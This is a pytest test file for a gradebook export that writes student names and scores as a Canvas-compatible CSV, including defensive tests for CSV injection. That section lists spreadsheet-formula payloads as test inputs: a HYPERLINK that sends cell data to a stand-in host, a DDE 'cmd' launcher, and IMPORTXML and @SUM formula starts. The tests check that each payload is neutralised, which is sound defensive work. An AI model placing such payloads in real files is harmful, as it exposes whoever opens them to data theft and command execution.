"""grading/export.py: the gradebook CSV in Canvas's import layout, CSV injection included."""

from __future__ import annotations

import ast
import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grading import export as x
from grading.export import ExportAssignment, ExportRow, canvas_csv
from grading.gradebook import Score

D = Decimal

HW1 = ExportAssignment("hw1", "HW1", D(100))
PS0 = ExportAssignment("ps0", "PS0", D("40"))
PROJECT = ExportAssignment("project", "Final project", D("87.5"))
ASSIGNMENTS = [PS0, HW1, PROJECT]


def row(**overrides) -> ExportRow:
    values = {
        "last_name": "Burdell",
        "first_name": "George",
        "user_id": 17,
        "username": "gburdell3",
        "email": "gburdell3@gatech.edu",
        "section": "CS4803",
        "scores": {"ps0": Score(D(30)), "hw1": Score(D("97.5")), "project": Score(D(80))},
        "final_percent": D("91.4"),
    }
    values.update(overrides)
    return ExportRow(**values)


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- layout -------------------------------------------------------------------------------------


def test_the_module_imports_only_the_standard_library():
    imported: set[str] = set()
    for node in ast.walk(ast.parse(Path(x.__file__).read_text())):
        if isinstance(node, ast.Import):
            imported.update(alias.name.split(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert imported <= {
        "__future__",
        "collections",
        "csv",
        "dataclasses",
        "decimal",
        "io",
        "typing",
    }


def test_exact_header_and_points_possible_row():
    lines = canvas_csv([], ASSIGNMENTS).split("\r\n")
    assert lines[0] == (
        "Student,ID,SIS User ID,SIS Login ID,Section,PS0,HW1,Final project,Current Score"
    )
    assert lines[1] == "    Points Possible,,,,,40.00,100.00,87.50,(read only)"
    assert lines[2:] == [""]


def test_a_student_row():
    rows = parse(canvas_csv([row()], ASSIGNMENTS))
    assert rows[2] == [
        "Burdell, George",
        "17",
        "gburdell3",
        "gburdell3",
        "CS4803",
        "30.00",
        "97.50",
        "80.00",
        "91.40",
    ]
    assert all(len(r) == len(rows[0]) for r in rows)


def test_the_header_is_what_canvas_importer_recognises():
    header = parse(canvas_csv([], ASSIGNMENTS))[0]
    # GradebookImporter#row_has_student_headers? and #update_column_count
    assert "Student" in header[0]
    assert "ID" in header[1]
    assert re.match(r"SIS\s+User\s+ID", header[2])
    assert re.match(r"SIS\s+Login\s+ID", header[3])
    assert header[4] == "Section"
    # The totals are dropped by the importer's NON_ASSIGNMENT_COLUMN_HEADERS regexp.
    non_assignment = re.compile("Current Score|Final Score|Current Points|Final Points")
    assert [h for h in header[5:] if non_assignment.search(h)] == ["Current Score"]


def test_lines_end_with_crlf_and_rows_keep_the_order_given():
    text = canvas_csv([row(last_name="Zed"), row(last_name="Abel")], [HW1])
    assert text.endswith("\r\n")
    assert [r[0] for r in parse(text)[2:]] == ["Zed, George", "Abel, George"]


def test_no_assignments():
    rows = parse(canvas_csv([row()], []))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Current Score"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "(read only)"]
    assert rows[2] == ["Burdell, George", "17", "gburdell3", "gburdell3", "CS4803", "91.40"]


# --- assignment columns -------------------------------------------------------------------------


def test_assignment_columns_are_bare_titles_without_a_canvas_id():
    header = parse(canvas_csv([], ASSIGNMENTS))[0]
    assert header[5:8] == ["PS0", "HW1", "Final project"]


def test_a_known_canvas_id_goes_in_parentheses():
    hw1 = ExportAssignment("hw1", "HW1", D(100), canvas_id=1234567)
    header = parse(canvas_csv([], [hw1]))[0]
    assert header[5] == "HW1 (1234567)"
    # exactly what Assignment.title_and_id parses back
    match = re.fullmatch(r"(.*)\s\((\d+)\)", header[5])
    assert match is not None
    assert match.groups() == ("HW1", "1234567")


def test_repeated_titles_are_told_apart_by_our_id():
    a = ExportAssignment("hw1", "Homework", D(10))
    b = ExportAssignment("hw2", "Homework", D(10))
    c = ExportAssignment("hw3", "Other", D(10))
    header = parse(canvas_csv([], [a, b, c]))[0]
    assert header[5:8] == ["Homework [hw1]", "Homework [hw2]", "Other"]
    assert len(set(header)) == len(header)


def test_a_repeated_assignment_id_is_refused():
    with pytest.raises(ValueError, match="hw1"):
        canvas_csv([], [HW1, ExportAssignment("hw1", "Again", D(1))])


def test_points_possible_are_written_with_two_decimals():
    assignments = [
        ExportAssignment("a", "A", D(5)),
        ExportAssignment("b", "B", D("2.5")),
        ExportAssignment("c", "C", D("0")),
        ExportAssignment("d", "D", D("1.005")),
    ]
    assert parse(canvas_csv([], assignments))[1][5:9] == ["5.00", "2.50", "0.00", "1.01"]


# --- student columns ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("last", "first", "expected"),
    [
        ("Burdell", "George", "Burdell, George"),
        ("  Burdell ", " George  ", "Burdell, George"),
        ("Burdell", "", "Burdell"),
        ("", "George", "George"),
        ("", "", "gburdell3"),
        ("van der Berg", "Anna Maria", "van der Berg, Anna Maria"),
        ("O'Brien", "Seán", "O'Brien, Seán"),
        ("李", "小龙", "李, 小龙"),
    ],
)
def test_name_is_last_comma_first(last, first, expected):
    assert parse(canvas_csv([row(last_name=last, first_name=first)], []))[2][0] == expected


def test_sis_login_id_may_be_the_email():
    rows = parse(canvas_csv([row()], [], login_id="email"))
    assert rows[2][2:4] == ["gburdell3", "gburdell3@gatech.edu"]


def test_a_bad_login_id_choice_is_refused():
    with pytest.raises(ValueError, match="login_id"):
        canvas_csv([], [], login_id="gtid")


def test_the_id_column_can_be_left_empty():
    rows = parse(canvas_csv([row()], [], include_user_ids=False))
    assert rows[2][1] == ""
    assert rows[2][2] == "gburdell3"


def test_a_string_user_id():
    assert parse(canvas_csv([row(user_id="u-17")], []))[2][1] == "u-17"


# --- scores -------------------------------------------------------------------------------------


def scores_row(scores) -> list[str]:
    return parse(canvas_csv([row(scores=scores)], ASSIGNMENTS))[2][5:8]


def test_excused_is_ex_and_ungraded_is_empty():
    scores = {"ps0": Score(None, excused=True), "hw1": Score(None), "project": None}
    assert scores_row(scores) == ["EX", "", ""]


def test_excused_wins_over_points():
    assert scores_row({"ps0": Score(D(10), excused=True)}) == ["EX", "", ""]


def test_an_absent_score_is_empty():
    assert scores_row({}) == ["", "", ""]


def test_scores_for_unknown_assignments_are_not_written():
    rows = parse(canvas_csv([row(scores={"ghost": Score(D(1))})], [HW1]))
    assert len(rows[2]) == len(rows[0])
    assert rows[2][5] == ""


@pytest.mark.parametrize(
    ("points", "cell"),
    [
        ("0", "0.00"),
        ("7", "7.00"),
        ("7.5", "7.50"),
        ("97.25", "97.25"),
        ("33.333333", "33.33"),
        ("66.666", "66.67"),
        ("0.005", "0.01"),  # half up
        ("0.004", "0.00"),
        ("2.675", "2.68"),  # exact decimal: no binary-float surprise
        ("1E+2", "100.00"),
        ("-0.001", "0.00"),  # never "-0.00"
        ("12345.6", "12345.60"),  # no thousands separator
    ],
)
def test_scores_have_two_decimals(points, cell):
    assert scores_row({"hw1": Score(D(points))})[1] == cell


def test_a_plain_decimal_is_accepted_as_a_score():
    assert scores_row({"hw1": D("88.8")})[1] == "88.80"


def test_final_percent_is_the_current_score():
    assert parse(canvas_csv([row(final_percent=D("83.125"))], []))[2][-1] == "83.13"


def test_no_final_percent_leaves_the_current_score_empty():
    assert parse(canvas_csv([row(final_percent=None)], []))[2][-1] == ""


NON_FINITE = [D("NaN"), D("Infinity"), D("-Infinity"), D("sNaN")]


@pytest.mark.parametrize("bad", NON_FINITE)
def test_non_finite_scores_are_refused(bad):
    with pytest.raises(ValueError, match="finite"):
        canvas_csv([row(scores={"hw1": Score(bad)})], [HW1])


@pytest.mark.parametrize("bad", NON_FINITE)
def test_non_finite_points_possible_are_refused(bad):
    with pytest.raises(ValueError, match="finite"):
        canvas_csv([], [ExportAssignment("hw1", "HW1", bad)])


@pytest.mark.parametrize("number", [1.5, True], ids=["float", "bool"])
def test_a_float_is_refused(number):
    with pytest.raises(ValueError, match="Decimal"):
        x.format_number(number)


# --- CSV injection ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK"),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("=cmd|' /C calc'!A0", "'=cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1", "'\n=1"),
        ("\x00=1", "'\x00=1"),
        ("  =1+1", "'  =1+1"),  # Canvas's own check is ^\s*=
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals
        ("\uff20SUM(1)", "'\uff20SUM(1)"),  # full-width at
    ],
)
def test_neutralise_formula_starts(text, safe):
    assert x.neutralise(text).startswith(safe)
    assert x.neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Burdell", "O'Brien", "'=already quoted", "a=b", "Jean-Luc", "1+1", " plain", "CS4803"],
)
def test_neutralise_leaves_ordinary_text_alone(text):
    assert x.neutralise(text) == text


def test_a_student_named_hyperlink_is_neutralised():
    evil = '=HYPERLINK("http://evil.example/steal?"&B3,"Click me")'
    rows = parse(canvas_csv([row(last_name=evil, first_name="x")], [HW1]))
    assert rows[2][0] == "'" + evil + ", x"


def test_a_first_name_cannot_smuggle_a_formula_into_a_lone_name():
    rows = parse(canvas_csv([row(last_name="", first_name="@SUM(1)")], [HW1]))
    assert rows[2][0] == "'@SUM(1)"


def test_every_text_column_is_neutralised():
    evil = row(
        last_name="",
        first_name="",
        user_id="=1",
        username="@SUM(1)",
        email="-2+3@example.com",
        section="+CS4803",
    )
    assignment = ExportAssignment("hw1", "=IMPORTXML(A1)", D(10))
    rows = parse(canvas_csv([evil], [assignment], login_id="email"))
    assert rows[0][5] == "'=IMPORTXML(A1)"
    assert rows[2][:5] == ["'@SUM(1)", "'=1", "'@SUM(1)", "'-2+3@example.com", "'+CS4803"]


def test_neutralised_canvas_id_title():
    assignment = ExportAssignment("hw1", "=EVIL()", D(10), canvas_id=42)
    assert parse(canvas_csv([], [assignment]))[0][5] == "'=EVIL() (42)"


def test_negative_numbers_stay_numbers():
    # Scores cannot be negative in the portal, but a number cell is never a formula.
    assert scores_row({"hw1": Score(D(-1))})[1] == "-1.00"


def test_no_text_cell_starts_a_formula_for_any_input():
    @settings(max_examples=300)
    @given(st.text(), st.text(), st.text(), st.text(), st.text())
    def check(last, first, username, section, title):
        data = row(
            last_name=last, first_name=first, username=username, email=username, section=section
        )
        text = canvas_csv([data], [ExportAssignment("a", title, D(1))])
        rows = parse(text)
        for cell in [rows[0][5], *rows[2][:5]]:
            assert not cell[:1] or cell[0] not in "=+-@\t\r\n\x00"
            assert cell.lstrip()[:1] not in set("=+-@")

    check()


# --- quoting and round trip -------------------------------------------------------------------


def test_commas_and_quotes_are_quoted():
    text = canvas_csv(
        [row(last_name="Smith, Jr.", first_name='Robert "Bob"', section="A,B")],
        [ExportAssignment("hw1", 'Essay "one", part 2', D(10))],
    )
    lines = text.split("\r\n")
    assert lines[0].split(",", 5)[5] == '"Essay ""one"", part 2",Current Score'
    assert lines[2].startswith('"Smith, Jr., Robert ""Bob"""')
    rows = parse(text)
    assert rows[0][5] == 'Essay "one", part 2'
    assert rows[2][0] == 'Smith, Jr., Robert "Bob"'
    assert rows[2][4] == "A,B"


def test_line_breaks_inside_a_cell_survive():
    rows = parse(canvas_csv([row(last_name="Two\nLines")], [HW1]))
    assert rows[2][0] == "Two\nLines, George"
    assert len(rows) == 3


def test_round_trip_with_csv_reader():
    students = [
        row(),
        row(
            last_name="Lovelace",
            first_name="Ada",
            user_id=18,
            username="alovelace",
            section="CS7643",
            scores={"ps0": Score(D(40)), "hw1": Score(None, excused=True)},
            final_percent=D("100.4"),
        ),
    ]
    rows = parse(canvas_csv(students, ASSIGNMENTS))
    assert len(rows) == 4
    assert rows[3] == [
        "Lovelace, Ada",
        "18",
        "alovelace",
        "alovelace",
        "CS7643",
        "40.00",
        "EX",
        "",
        "100.40",
    ]
    table = [dict(zip(rows[0], r, strict=True)) for r in rows[2:]]
    assert table[0]["HW1"] == "97.50"
    assert table[1]["Current Score"] == "100.40"


@settings(max_examples=200)
@given(
    st.lists(
        st.tuples(
            st.text(),
            st.text(),
            st.text(),
            st.one_of(
                st.none(),
                st.builds(
                    Score,
                    st.none() | st.decimals(0, 1000, places=2),
                    st.booleans(),
                ),
            ),
        ),
        max_size=5,
    )
)
def test_round_trip_any_text(students):
    data = [
        row(last_name=last, first_name=first, username=username, scores={"hw1": score})
        for last, first, username, score in students
    ]
    rows = parse(canvas_csv(data, [HW1]))
    assert len(rows) == 2 + len(data)
    for parsed, original, (_, _, _, score) in zip(rows[2:], data, students, strict=True):
        assert len(parsed) == 7
        assert parsed[2] == x.neutralise(original.username)
        if score is None or (not score.excused and score.points is None):
            assert parsed[5] == ""
        elif score.excused:
            assert parsed[5] == "EX"
        else:
            assert Decimal(parsed[5]) == score.points
